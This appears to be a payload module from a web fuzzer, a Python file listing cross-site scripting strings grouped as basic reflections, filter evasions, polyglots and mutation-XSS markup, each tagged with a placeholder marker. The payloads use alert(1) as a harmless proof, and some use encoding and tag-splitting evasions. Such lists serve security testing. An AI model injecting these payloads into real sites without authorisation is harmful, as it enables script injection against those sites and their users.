# webfuzzer/payloads/xss.py
"""
Script-injection base payloads, grouped the way the generator selects them:
  - basic: plain reflections for HTML text / attribute / URL contexts.
  - advanced: filter evasions and tag-breaking variants.
  - polyglot: strings that survive several contexts at once.
  - mxss: markup that mutates into script after the parser re-serialises it.
FUZZMARK is swapped for the test unit's marker at dispatch time so a
reflection can be attributed to exactly one unit.
"""

BASIC = [
    "FUZZMARK<script>alert(1)</script>",
    "FUZZMARK<img src=x onerror=alert(1)>",
    "FUZZMARK<svg onload=alert(1)>",
    "FUZZMARK\" onmouseover=\"alert(1)\" x=\"",
    "FUZZMARK\" onfocus=\"alert(1)\" autofocus x=\"",
    "FUZZMARK\";alert(1);//",
    "FUZZMARK--></script><script>alert(1)</script><!--",
    "javascript:alert(1)//FUZZMARK",
]

ADVANCED = [
    "FUZZMARK\"><svg/onload=alert(1)>",
    "FUZZMARK'><img src=x onerror=alert(1)>",
    "FUZZMARK</title><svg/onload=alert(1)>",
    "FUZZMARK--><svg/onload=alert(1)>",
    "FUZZMARK</script><script>alert(1)</script>",
    "FUZZMARK\"><body onfocus=alert(1) autofocus>",
    "FUZZMARK<scr<script>ipt>alert(1)</scr</script>ipt>",
    "FUZZMARK<img src=x onerror=&#97;lert(1)>",
    "FUZZMARK<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "FUZZMARK<details open ontoggle=alert(1)>",
    "FUZZMARK`-alert(1)-`",
    "expression(alert(1))/*FUZZMARK*/",
]

POLYGLOT = [
    "FUZZMARKjaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "FUZZMARK'\"--></style></script><svg onload=alert(1)>",
    "FUZZMARK\"'`><img src=x onerror=alert(1)>${alert(1)}",
    "FUZZMARK';alert(1)//\\';alert(1)//\";alert(1)//\\\";alert(1)//--></script>",
]

MXSS = [
    "FUZZMARK<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "FUZZMARK<svg><style><img src=x onerror=alert(1)></style></svg>",
    "FUZZMARK<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>-->",
    "FUZZMARK<template><s><template><s></template><img src=x onerror=alert(1)>",
    "FUZZMARK<svg><![CDATA[<image xlink:href=\"]]><img src=x onerror=alert(1)//\">",
    "FUZZMARK<!--><img src=x onerror=alert(1)>-->",
]
